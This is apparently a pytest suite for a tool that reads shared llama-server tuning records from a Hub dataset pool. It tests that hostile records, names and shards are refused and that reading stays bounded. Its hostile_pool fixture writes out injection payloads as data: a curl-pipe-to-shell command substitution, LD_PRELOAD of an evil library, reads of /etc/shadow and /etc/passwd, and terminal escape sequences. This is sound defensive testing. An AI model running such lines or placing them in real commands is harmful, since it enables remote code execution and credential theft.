"""A pool strangers write to, served by a real HTTP server speaking the Hub protocol (tests/hub_server.py): every
hostile record, name and shard is skipped and counted (the first few named), the valid records are always read,
agreement counts the Hub accounts that uploaded them, and reading stays bounded (tuner/share/pool.py, shards.py,
lookup.py, seeds.py; `moe-tune lookup`)."""

from __future__ import annotations

import copy
import functools
import io
import json
import random
import re
import time
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import run_cli
from tests.hub_server import HubServer
from tests.share.test_gate import good
from tuner.catalog.cards import find_card
from tuner.core.errors import HubUnreachableError
from tuner.engine import flags
from tuner.hub import client
from tuner.hub.repos import HubOptions
from tuner.models import fingerprint
from tuner.share import consolidate, pool, seeds, shards
from tuner.share.gate import read_record
from tuner.share.match import ModelQuery

REPO = "pool/moe-tune-shared"
A, B, C, D, E = ("a" * 16, "b" * 16, "c" * 16, "d" * 16, "e" * 16)


def line(model: Path, extra: str = "") -> str:
    return f"llama-server -m {model.name} -c 4096 -np 1{extra}"


@functools.cache
def _fingerprint(model: Path) -> dict[str, Any]:
    return fingerprint.fingerprint(model)


def record(model: Path, sharer: str | None, *, printed: str | None = None, gen: float = 100.0, **top: Any) -> dict:
    fp = _fingerprint(model)
    d = good(sharer, printed or line(model))
    d["model"] = {"hub_repo": None, "hub_file": None, "file_name": model.name, "quant": "Q8_0",
                  "size_bytes": fp["size"], "head_sha256": fp["head_sha256"], "tail_sha256": fp["tail_sha256"]}
    d["lines"][1]["line"] = line(model, " -ctk q8_0 -t 2 -fa on")
    if printed is not None:  # it printed its candidate
        d["printed"]["label"], d["lines"][1]["line"] = "candidate-1", printed
    for ln in d["lines"]:
        ln["gen_tok_s"] = ln["loaded_gen_tok_s"] = gen
    return d | top


def data(d: dict) -> bytes:
    return json.dumps(d, indent=1).encode()


def pooled(hub: HubServer, repo_id: str, by_account: dict[str, dict[str, bytes]], **kwargs: Any):
    """A dataset repo whose files each account brought in its own pull request, merged by the repo's owner (so the
    commit that brought them names the owner; who opened each request, the discussions API)."""
    repo = hub.add_repo(repo_id, {}, repo_type="dataset", **kwargs)
    for account, files in by_account.items():
        hub.merge_pull(repo, hub.open_pull(repo, account, files))
    return repo


def hostile_pool(model: Path) -> tuple[dict[str, dict[str, bytes]], int]:
    """records/ files by uploader: the valid line from alice (three copies under three sharer ids) and bob, eve's
    single line fifty times, and every hostile case of issue 50 from mallory, padded past 600 files; how many
    files must be refused."""
    ids = (f"{i:016x}" for i in range(1, 10**6))
    by: dict[str, dict[str, bytes]] = {"alice": {}, "bob": {}, "eve": {}, "mallory": {}}

    def add(raw: bytes, name: str | None = None, who: str = "mallory") -> None:
        by[who][f"records/{name or next(ids)}.json"] = raw

    for sharer, who in ((A, "alice"), (C, "alice"), (D, "alice"), (B, "bob")):  # alice's copies count once
        add(data(record(model, sharer, tool=f"moe-tune {sharer}")), who=who)
    for i in range(50):  # one account's sane line, fifty times: unconfirmed
        add(data(record(model, E, printed=line(model, " -ub 256"), tool=f"copy {i}")), who="eve")
    add(data(record(model, A) | {"card": good()["card"] | {"name": "Totally Real GPU 12GB"}}), who="alice")
    refused = 0
    for bad in [
        'llama-server -m "`id>/tmp/PWNED`.gguf" -c 4096 -np 1',
        'llama-server -m "$(curl -s x.example|sh).gguf" -c 4096',
        f"LD_PRELOAD=/tmp/evil.so PATH=/tmp/evil llama-server -m {model.name} -c 4096",
        f"/tmp/evil/llama-server-backdoor -m {model.name} -c 4096",
        f"llama-server -m {model.name} --host 0.0.0.0 --api-key stolen --log-file ~/.bashrc "
        "--chat-template-file /etc/shadow",
        "llama-server -m ../../../../etc/passwd -c 4096",
    ]:
        add(data(record(model, C, printed=bad)))
        refused += 1
    for sharer in (C, D):  # absurd figures, from two sharers
        add(data(record(model, sharer, gen=1e9)))
        add(data(record(model, sharer, gen=-5.0)))
        refused += 2
    valid = data(record(model, D)).decode()
    add(valid.replace('"size_bytes": ', '"size_bytes": ' + "9" * 5000 + ", \"x\": ", 1).encode())  # huge int
    add(valid.replace('"tool": "moe-tune 0"', '"tool": "a", "tool": "b"', 1).encode())  # duplicate key
    add(data(record(model, D) | {"version": 99}))
    add(b" " * 70_000)  # listed above the gate's size: never downloaded
    refused += 4
    for name in ("../../x", "\x1b[2J\x1b]0;owned\x07", "x\nwarning: forged", "README"):
        add(data(record(model, C)), name)
        refused += 1
    while sum(map(len, by.values())) < 640:  # stuffing: junk with names that would sort first
        add(b"{" * 64)
        refused += 1
    return by, refused


def env_for(hub: HubServer, tmp_path: Path) -> dict[str, str]:
    return {"HF_ENDPOINT": hub.endpoint, "HF_TOKEN": "hf_test", "HF_HUB_CACHE": str(tmp_path / "hf"),
            "HF_HUB_DISABLE_TELEMETRY": "1", "MOE_TUNE_CONFIG": str(tmp_path / "config"),
            "MOE_TUNE_CACHE": str(tmp_path / "cache")}  # header stand-ins: this test's own


def agreeing(stdout: str) -> list[tuple[str, str]]:
    """(how many accounts agree, the line to run) as lookup prints them: the line on its own, under its count."""
    return re.findall(r"^(\d+ accounts agree[^:\n]*|1 (?:unverified )?account \(unconfirmed\)):\n(llama-server .*)$",
                      stdout, re.M)


def test_lookup_and_seed_from_over_a_hostile_pool(model, tmp_path):
    by, refused = hostile_pool(model)
    with HubServer() as hub:
        pooled(hub, REPO, by)
        res = run_cli("lookup", str(model), "--gpu", "RTX 3060 12GB", "--repo", REPO, env=env_for(hub, tmp_path))
        as_json = json.loads(run_cli("lookup", str(model), "--gpu", "RTX 3060 12GB", "--repo", REPO, "--json",
                                     env=env_for(hub, tmp_path)).stdout)
        assert not any("70000" in r.path or r.body_bytes > 65_537 for r in hub.requests if "/resolve/" in r.path)
        options = HubOptions(endpoint=hub.endpoint, token=False, cache_dir=tmp_path / "hf")
        steps: list[str] = []
        hw = find_card("RTX 3060 12GB").hardware(64 << 30, 60 << 30, 50e9)
        proposed = seeds.seeds_from(REPO, model, hw, options, on_step=steps.append)
    assert res.returncode == 0 and "Traceback" not in res.stderr, res.stderr
    warnings = res.stderr.splitlines()
    # The first five refusals named (the names the listing refuses come first), then one line of counts by kind.
    assert len(warnings) == 6 and all(w.startswith("warning: ") for w in warnings), warnings
    assert all(c.isprintable() for c in res.stdout + res.stderr if c != "\n")  # no escape reached the terminal
    assert "warning: shared record \\x1b[2J\\x1b]0;owned\\x07.json skipped: a record file is" in res.stderr
    assert "warning: shared record x\\nwarning: forged.json skipped" in res.stderr
    assert "70,000 bytes, more than the 65,536" in res.stderr
    # Alice's record on a card the catalog does not know is read and passed over: counted, never a line.
    assert warnings[-1].startswith(f"warning: {refused + 1:,} shared records skipped in all (")
    assert sum(as_json["refused"].values()) == refused + 1 and as_json["refused"]["above physics"] == 2
    assert as_json["refused"]["for another model or card"] == 1
    # Every record read is kept or counted: 635 files read (of 640 listed, 4 names and 1 size never fetched).
    assert as_json["refused_unread"] == 5  # refused before they were read: a name, a size, a download, a shard
    assert as_json["records_read"] == 635 == as_json["records_kept"] + sum(as_json["refused"].values()) - \
        as_json["refused_unread"]
    assert as_json["records_kept"] == 3 + 1 + 50  # alice's copies, bob's, eve's fifty
    assert as_json["refused"]["line refused"] == 6 and as_json["refused"]["bad name"] == 4
    # The valid line first, its accounts counted once; the one-account line after it; each the flag layer's
    # rendering, alone on its line.
    assert agreeing(res.stdout) == [("2 accounts agree", line(model)),
                                    ("1 account (unconfirmed)", line(model, " -ub 256"))]
    for _, shown in agreeing(res.stdout):
        assert shown == flags.launch_line(flags.parse_command(shown).config)
    # --seed-from: the same few lines, then what it proposes.
    assert len(steps) == 7 and steps[-1].endswith("2 distinct line(s) proposed as seeds")
    assert [p.config.ubatch for p in proposed] == [None, 256] and "2 accounts agree" in proposed[0].origin


def test_reading_is_bounded_in_files_and_seconds_and_says_what_it_skipped(model, tmp_path, monkeypatch):
    by, _ = hostile_pool(model)
    files = {p: raw for f in by.values() for p, raw in f.items()}
    with HubServer(tree_page=100) as hub:  # the listing comes in pages, as the Hub's does
        pooled(hub, REPO, by)
        options = HubOptions(endpoint=hub.endpoint, token=False, cache_dir=tmp_path / "hf")
        monkeypatch.setattr(pool, "MAX_FILES", 50)
        got = pool.fetch(REPO, options, rng=random.Random(1))
        downloads = [r for r in hub.requests if "/resolve/" in r.path]
        assert got.files_read == len(downloads) == 50
        read_ids = sorted(r.path.rsplit("/", 1)[1] for r in downloads)
        named_first = sorted(p.rsplit("/", 1)[1] for p in files if pool.RECORD_PATH.fullmatch(p))[:50]
        assert len(set(read_ids) & set(named_first)) < 25  # a random sample, not the names that sort first
        # 640 files: 4 names refused and 1 file too large, never fetched; of the other 635, a random 50 were read.
        assert any(s.startswith("585 of 635 record files were not read: a random 50 were") for s in got.skipped)
        assert len([r for r in hub.requests if "/tree/" in r.path]) >= 7  # every page of the listing followed
        monkeypatch.setattr(pool, "MAX_FILES", 10_000)
        ticks = iter(range(0, 10**6, 7))  # a clock that runs 7 s per look
        late = pool.fetch(REPO, options, clock=lambda: float(next(ticks)))
        assert late.files_read < 635 and any("were not read: the look-up's 60 s were spent" in s for s in late.skipped)
        assert any(s.startswith("records/ holds more than the ") for s in late.skipped)


def test_a_pool_of_shards_is_read_by_model_and_card_and_every_row_goes_through_the_gate(model, tmp_path):
    rng = random.Random(0)
    gated = []
    for i in range(3000):  # many models on two cards; ours among them
        d = record(model, rng.choice([A, B, C]), tool=f"r{i}")
        if i % 50:
            d["model"] = d["model"] | {"hub_repo": f"org{i % 37}/m{i % 11}-GGUF", "head_sha256": f"{i:064x}"}
        if i % 3 == 0:
            d["card"] = d["card"] | {"name": "NVIDIA GeForce RTX 4060 Ti", "vram_total_bytes": 16 * 2**30}
        gated.append(read_record(data(d), f"{i:016x}"))
    # The keeper read each record's uploader from the Hub when consolidating: it is the row's account column.
    built = shards.build_shards(gated, {r.record_id: {A: "alice", B: "bob", C: "carol"}[r.sharer] for r in gated})
    assert sorted(p.split("/")[1] for p in built) == ["vram-12", "vram-16"]
    hostile_row = copy.deepcopy(gated[0].data)
    hostile_row["printed"]["line"] = "LD_PRELOAD=/tmp/x.so " + hostile_row["printed"]["line"]
    extra = shards.build_shards([read_record(data(good(E)), "f" * 16)])
    [(extra_path, extra_bytes)] = extra.items()
    table_bytes = _with_record(extra_bytes, json.dumps(hostile_row))
    with HubServer() as hub:
        repo = hub.add_repo(REPO, {**built, extra_path.replace(".parquet", "x.parquet"): table_bytes,
                                   "shards/vram-12/notes.parquet": b"not parquet"}, repo_type="dataset")
        hub.merge_pull(repo, hub.open_pull(repo, "dave", {"records/00000000000fffff.json": data(record(
            model, D, tool="late"))}))
        res = run_cli("lookup", str(model), "--gpu", "RTX 3060 12GB", "--repo", REPO, "--json",
                      env=env_for(hub, tmp_path))
        assert not any("vram-16" in r.path for r in hub.requests)  # the other VRAM class is never opened
    assert res.returncode == 0, res.stderr
    answer = json.loads(res.stdout)
    ours = [i for i in range(3000) if i % 50 == 0 and i % 3]  # our model, on the 3060
    [group] = answer["by_engine_commit"]["0c1e570"]
    assert group["records"] == len(ours) + 1 and group["accounts"] == 4  # 3 from shards, dave's from records/
    assert group["account_names"] == ["alice", "bob", "carol", "dave"] and not group["unverified"]
    assert any("a line sets LD_PRELOAD" in s for s in answer["skipped"])
    assert any(s.startswith("shard shards/vram-12/notes.parquet skipped: ") for s in answer["skipped"])


def _with_record(parquet: bytes, text: str) -> bytes:
    """A shard whose one row's record is ``text`` (a hostile row, as anyone writing a shard may make)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pq.read_table(io.BytesIO(parquet))
    table = table.set_column(table.schema.get_field_index("record"), "record", pa.array([text]))
    table = table.set_column(table.schema.get_field_index("model_key"), "model_key",
                             pa.array([f"sha:{json.loads(text)['model']['head_sha256']}"]))
    table = table.set_column(table.schema.get_field_index("head_sha256"), "head_sha256",
                             pa.array([json.loads(text)["model"]["head_sha256"]]))
    sink = io.BytesIO()
    pq.write_table(table, sink)
    return sink.getvalue()


def test_a_pool_query_names_the_models_keys():
    q = ModelQuery("x", hub_repo="Org/M-GGUF", quant="Q4_K_M", sha=(1, "ab" * 32, "cd" * 32))
    assert q.keys == {"hub:org/m-gguf", f"sha:{'ab' * 32}"}


def test_the_keeper_consolidates_records_into_shards_in_one_commit_keeping_who_uploaded_each(model, tmp_path):
    uploads: dict[str, dict[str, bytes]] = {}
    for i, (sharer, who) in enumerate([(A, "ann"), (A, "ann"), (B, "bob"), (C, "cid"), (D, "dan")]):
        uploads.setdefault(who, {})[f"records/{i:016x}.json"] = data(record(model, sharer, tool=f"r{i}"))
    uploads["dan"]["records/00000000000000ff.json"] = data(record(model, D, gen=-1.0))  # refused: stays
    with HubServer() as hub:
        repo = pooled(hub, "alice/pool", uploads)
        options = HubOptions(endpoint=hub.endpoint, token="hf_test", cache_dir=tmp_path / "hf")
        done = consolidate.consolidate("alice/pool", options)
        assert done.records == 5 and len(done.files_taken) == 5 and repo.commits[-1] == (
            "moe-tune: 5 records consolidated into 1 shard(s)") and repo.history[-1].author == "alice"
        assert sorted(repo.files) == ["records/00000000000000ff.json", *done.shards]
        again = pool.fetch("alice/pool", options, pool.PoolQuery(12, ModelQuery.parse(str(model)).keys,
                                                                  ModelQuery.parse(str(model)).sha[1]))
        assert again.files_read == 1 and again.shard_rows_read == 5 and len(again.records) == 5
        assert len(again.skipped) == 1 and "gen_tok_s must be a finite number, 0 or more" in again.skipped[0]
        # The shard was committed by the pool's owner: its rows' accounts (the pull requests' openers) are believed.
        assert sorted(again.accounts.items()) == [(f"{i:016x}", who) for i, who in enumerate(
            ["ann", "ann", "bob", "cid", "dan"])]


def test_a_download_that_fails_is_one_line_and_the_others_are_read(model, tmp_path):
    files = {f"records/{i:016x}.json": data(record(model, sharer, tool=f"r{i}")) for i, sharer in enumerate([A, B])}
    with HubServer() as hub:
        hub.add_repo(REPO, files, repo_type="dataset")
        hub.cut_next_download(REPO, "records/0000000000000001.json", after_bytes=10, times=3)
        got = pool.fetch(REPO, HubOptions(endpoint=hub.endpoint, token=False, cache_dir=tmp_path / "hf"))
    assert [r.record_id for r in got.records] == ["0000000000000000"]
    [line] = got.skipped
    assert line.startswith("shared record 0000000000000001 skipped: download failed (") and "\n" not in line


def test_a_listing_page_that_never_comes_is_asked_again_then_given_up(model, tmp_path, monkeypatch):
    """list_repo_tree passes timeout=None on every page (huggingface_hub's paginate), and huggingface_hub's client
    has none: a Hub that sent the first page of records/ and then went silent held `lookup` for good. Now a silent
    page is given up after STALL_S and asked again; a page that never comes leaves the pages that did, said."""
    monkeypatch.setattr(client, "STALL_S", 2.0)
    files = {f"records/{i:016x}.json": data(record(model, A if i % 2 else B, tool=f"r{i}")) for i in range(12)}
    with HubServer(tree_page=5) as hub:
        hub.add_repo(REPO, files, repo_type="dataset")
        options = HubOptions(endpoint=hub.endpoint, token=False, cache_dir=tmp_path / "hf")
        hub.stall_next("&cursor=5", seconds=12)  # the second page of records/, once
        started = time.monotonic()
        got = pool.fetch(REPO, options)
        took = time.monotonic() - started
        assert 2.0 <= took < 8.0, took  # one stall bound and a retry, not the server's 12 s
        assert got.files_read == len(got.records) == 12 and got.skipped == ()
        pages = [r for r in hub.requests if "/tree/" in r.path and r.path.endswith("/records")]
        assert [r.status for r in pages] == [200, 0, 200, 200], pages


@pytest.mark.slow  # huggingface_hub's backoff sleeps 23 s between its six tries
def test_a_listing_page_that_never_comes_keeps_the_pages_that_did(model, tmp_path, monkeypatch):
    monkeypatch.setattr(client, "STALL_S", 1.0)
    files = {f"records/{i:016x}.json": data(record(model, A if i % 2 else B, tool=f"r{i}")) for i in range(12)}
    with HubServer(tree_page=5) as hub:
        hub.add_repo(REPO, files, repo_type="dataset")
        options = HubOptions(endpoint=hub.endpoint, token=False, cache_dir=tmp_path / "hf")
        hub.stall_next("&cursor=5", seconds=4, times=6)  # every try of the second page
        started = time.monotonic()
        got = pool.fetch(REPO, options)
        took = time.monotonic() - started
        assert took < 6 * 1.0 + 23 + 10, took
        assert got.files_read == len(got.records) == 5
        assert got.skipped == ("records/ was listed in part (5 files): the server sent no further page in time (a "
                               "page may wait 1 s, the look-up 60 s)",)
        hub.stall_next("/shards?", seconds=4, times=6)  # shards/, the first listing: nothing listed at all
        with pytest.raises(HubUnreachableError, match="ReadTimeout"):
            pool.fetch(REPO, options)


def test_a_hub_name_is_bound_by_its_quants_header_read_with_range_requests(model, tmp_path):
    def on_hub(quant: str, sharer: str, gen: float, repo: str = "o/small-GGUF") -> bytes:
        d = record(model, sharer, gen=gen)
        d["model"] |= {"hub_repo": repo, "hub_file": model.name, "quant": quant}
        return data(d)

    pool_files = {"records/0000000000000001.json": on_hub("Q8_0", A, 100.0),
                  "records/0000000000000002.json": on_hub("Q8_0", B, 1e9),
                  "records/0000000000000003.json": on_hub("Q4_K_M", C, 100.0),
                  "records/0000000000000004.json": on_hub("Q8_0", A, 100.0, "o/gone-GGUF"),
                  "records/0000000000000005.json": on_hub("Q8_0", B, 1e9, "o/gone-GGUF")}
    with HubServer() as hub:
        hub.add_repo(REPO, pool_files, repo_type="dataset")
        hub.add_repo("o/small-GGUF", {model.name: model})
        env = env_for(hub, tmp_path)
        exact = run_cli("lookup", "o/small-GGUF:Q8_0", "--gpu", "RTX 3060 12GB", "--repo", REPO, "--json", env=env)
        every = run_cli("lookup", "o/small-GGUF", "--gpu", "RTX 3060 12GB", "--repo", REPO, "--json", env=env)
        header_ranges = hub.ranges_requested(model.name)
        unknown = run_cli("lookup", "o/gone-GGUF:Q8_0", "--gpu", "RTX 3060 12GB", "--repo", REPO, "--json",
                          env=env)
    assert exact.returncode == every.returncode == unknown.returncode == 0, exact.stderr + every.stderr
    first = json.loads(exact.stdout)
    [group] = first["by_engine_commit"]["0c1e570"]
    assert group["record_ids"] == ["0000000000000001"]
    # The other quant's and the other repo's records are read and passed over: counted, never a line.
    absurd, counts = first["skipped"]
    assert absurd.startswith("shared record 0000000000000002 skipped: default claims gen_tok_s 1e+09")
    assert absurd.endswith("a token: the roofline of its header)")
    assert counts == "4 shared records skipped in all (3 for another model or card, 1 above physics); the first 1 " \
                     "are above"
    assert first["records_read"] == 5 == first["records_kept"] + sum(first["refused"].values())
    assert header_ranges and all(r and r.startswith("bytes=") for r in header_ranges)  # the header, not the file
    # Every quant of the repo: another quant is bound by its listed size; a quant the repo lacks is refused.
    assert sorted(json.loads(every.stdout)["skipped"][:2]) == [
        "shared record 0000000000000002 skipped: default claims gen_tok_s 1e+09, above the " + absurd.split(
            "above the ", 1)[1],
        "shared record 0000000000000003 skipped: quant Q4_K_M is not in the model's repo"]
    # A model that cannot be read: nothing bounds what its records claim (never their own size claim), so their
    # lines are offered without a figure, and the look-up says why.
    gone = json.loads(unknown.stdout)
    [offered] = gone["by_engine_commit"]["0c1e570"]
    assert offered["record_ids"] == ["0000000000000004", "0000000000000005"]
    assert offered["median_gen_tok_s"] is None and offered["median_prompt_tok_s"] is None
    note, counts = gone["skipped"]  # what was not known first, then the records passed over
    assert note.startswith("the model could not be read (") and note.endswith(
        "nothing bounds what 2 record(s) claim, so none of their figures is shown")
    assert counts == "3 shared records skipped in all (3 for another model or card)"
